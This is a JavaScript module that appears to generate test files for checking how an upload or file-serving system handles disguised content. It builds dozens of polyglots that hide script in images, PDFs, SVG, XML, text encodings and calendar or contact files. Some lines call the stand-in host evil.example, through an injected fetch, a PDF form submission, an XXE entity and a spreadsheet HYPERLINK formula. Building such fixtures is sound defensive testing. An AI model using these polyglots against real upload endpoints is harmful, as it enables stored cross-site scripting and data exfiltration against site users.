/* Sixty and more files that are two things at once, or not what they say; made here, so
   that nothing a scanner would find lies in the repository. SCRIPT tells that it ran. */
import { deflateSync } from "node:zlib";
import { zip } from "../http/files.mjs";

const told = "alert('kanarie')";
const html = `<script>${told};fetch('//evil.example/kanarie');document.title='kanarie'</script>`;
const page = `<!doctype html><html><body>${html}</body></html>`;
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${told}"><script>${told}</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${told}"/></foreignObject></svg>`;
const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${told}</script></body></html>`;
const B = (...list) => Buffer.concat(list.map((x) => (typeof x === "string" ? Buffer.from(x, "utf8") : Buffer.from(x))));

const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAFUlEQVR4nGNkYPjPgBsw4ZEbwdIAJR4BEzWdBwsAAAAASUVORK5CYII=", "base64");
const gif = B("GIF89a", [1, 0, 1, 0, 128, 0, 0, 0, 0, 0, 255, 255, 255, 44, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 68, 1, 0, 59]);
const jpeg = B([0xff, 0xd8, 0xff, 0xe0, 0, 16], "JFIF", [0, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
const wav = B("RIFF", [36, 0, 0, 0], "WAVEfmt ", [16, 0, 0, 0, 1, 0, 1, 0, 64, 31, 0, 0, 64, 31, 0, 0, 1, 0, 8, 0], "data", [0, 0, 0, 0]);
const comment = (text) => B([0xff, 0xfe, (text.length + 2) >> 8, (text.length + 2) & 255], text);
const chunk = (text) => { /* a tEXt chunk before IEND; browsers do not mind the sum */
	const n = Buffer.alloc(4);
	n.writeUInt32BE(text.length + 2);
	return B(png.subarray(0, 33), n, "tEXtx\0", text, [0, 0, 0, 0], png.subarray(33));
};
const pdf = (js) => `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${js})>>/Names<</JavaScript<</Names[(x) 4 0 R]>>>>>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O<</S/JavaScript/JS(${js})>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:${told})>>>>]>>\nendobj\n4 0 obj\n<</S/JavaScript/JS(${js})>>\nendobj\ntrailer<</Size 5/Root 1 0 R>>\n%%EOF\n`;
/* The script in a packed stream of objects; up: each row of eight as its difference. */
const packed = (up) => {
	const text = Buffer.from("5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>".padEnd(48)), rows = [];
	for (let i = 0; i < text.length; i += 8) rows.push(B([2], text.subarray(i, i + 8).map((c, k) => c - (i ? text[i - 8 + k] : 0))));
	const data = deflateSync(up ? B(...rows) : text), list = ["<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>", "0", "0", B(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${data.length}${up ? "/DecodeParms<</Predictor 12/Columns 8>>" : ""}>>\nstream\n`, data, "\nendstream")];
	let out = B("%PDF-1.5\n");
	const at = [0];
	for (const [i, o] of list.entries()) {
		at.push(out.length);
		out = B(out, `${i + 1} 0 obj\n`, o, "\nendobj\n");
	}
	const row = (kind, n, k) => [kind, 0, 0, n >> 8, n & 255, k];
	const table = deflateSync(Buffer.from([...row(0, 0, 255), ...[1, 2, 3, 4].flatMap((i) => row(1, at[i], 0)), ...row(2, 6, 0), ...row(1, at[6], 0), ...row(1, out.length, 0)]));
	return B(out, `7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length ${table.length}>>\nstream\n`, table, `\nendstream\nendobj\nstartxref\n${out.length}\n%%EOF\n`);
};
const mhtml = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\nContent-Location: http://kreide.localhost/\r\n\r\n${page}\r\n--x--\r\n`;
const utf16 = (text, big) => {
	const b = Buffer.from(text, "utf16le");
	return big ? B([0xfe, 0xff], b.swap16()) : B([0xff, 0xfe], b);
};
const utf7 = `+/v8-<html>+ADw-script+AD4-${told}+ADw-/script+AD4-`;

/* [name, bytes] */
export const polyglots = [
	...["png", "jpg", "gif", "pdf", "txt", "csv", "docx", "mp4", "mp3", "webp", "ico", "json", "log", "md", "odt", "zip"].map((e) => [`seite.${e}`, page]),
	...["html", "htm", "xhtml", "shtml", "xht", "mht", "mhtml", "hta", "htc", "svg", "svgz", "xml", "xsl", "swf", "js", "mjs", "php", "jsp"].map((e) => [`echt.${e}`,
		/svg/.test(e) ? svg : /xh/.test(e) ? xhtml : /mht/.test(e) ? mhtml : /js$/.test(e) ? told : page]),
	["bild.svg.png", svg], ["bild.png.html", B(png, page)], ["bild.jpg", B(jpeg, comment(page), page)], ["bild.gif", B(gif, page)], ["GIFAR.gif", B(gif, zip("x.html", page))], ["bild.png", chunk(page)],
	["js.gif", `GIF89a=1;${told};/*`], ["js.jpg", B([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a], `*/=${told}/*`)], ["ton.wav", B(wav, page)], ["js.wav", `RIFF=1;${told}//WAVE`], ["bild.bmp", `BM=1;${told};/*${page}`], ["bild.webp", B("RIFF\x24\0\0\0WEBPVP8 ", page)],
	["pdf-js.pdf", pdf(`app.alert\\(1\\);this.submitForm\\("http://evil.example/kanarie"\\)`)], ["pdf-gepackt.pdf", packed(false)], ["pdf-versetzt.pdf", packed(true)], ["pdf.html", B(pdf("app.alert\\(1\\)"), page)], ["html.pdf", B(page, pdf("app.alert\\(1\\)"))], ["spaet.pdf", B(" ".repeat(900), pdf("1"), html)],
	["bom8.txt", B([0xef, 0xbb, 0xbf], page)], ["bom16le.txt", utf16(page, false)], ["bom16be.txt", utf16(page, true)], ["utf7.txt", utf7], ["utf7-bom.txt", B("+/v8", utf7)], ["iso2022.txt", B([0x1b, 0x24, 0x42], page)],
	["xsl.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${page.replace("<!doctype html>", "")}</xsl:template></xsl:stylesheet></d>`],
	["xxe.xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "http://evil.example/kanarie">]><x>&y;</x>`], ["atom.xml", `<feed xmlns="http://www.w3.org/2005/Atom"><content type="html">&lt;script>${told}&lt;/script></content></feed>`],
	["mathml.xml", `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${told}"><mi>x</mi></math>`], ["vtt.vtt", `WEBVTT\n\n00:00.000 --> 00:09.000\n<img src=x onerror=${told}>`], ["appcache.txt", "CACHE MANIFEST\n/\n\nFALLBACK:\n/ /f/x"],
	["sw.js", "self.addEventListener('fetch',e=>e.respondWith(new Response('kanarie')))"], ["json.json", `{"a":"</script>${html}"}`], ["leer.html", ""], ["nul.html", B("\0\0\0\0", page)], ["nul.txt", B("\0".repeat(300), page)], ["hinten.txt", "x".repeat(2000) + page],
	["formel.csv", "=HYPERLINK(\"http://evil.example/kanarie\";\"Klick\");@SUM(1)\n"], ["link.url", "[InternetShortcut]\nURL=http://evil.example/kanarie\n"], ["x.desktop", "[Desktop Entry]\nType=Link\nURL=http://evil.example/kanarie\n"], ["ical.ics", `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:${html}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`],
	["vcard.vcf", `BEGIN:VCARD\r\nNOTE:${html}\r\nEND:VCARD\r\n`], ["brief.eml", `Content-Type: text/html\r\n\r\n${page}`], ["x.wasm", B([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], page)], ["doppel.html;.png", page], ["name.png\u202Egnp.lmth", page], [".htaccess", "AddType text/html .png"],
];
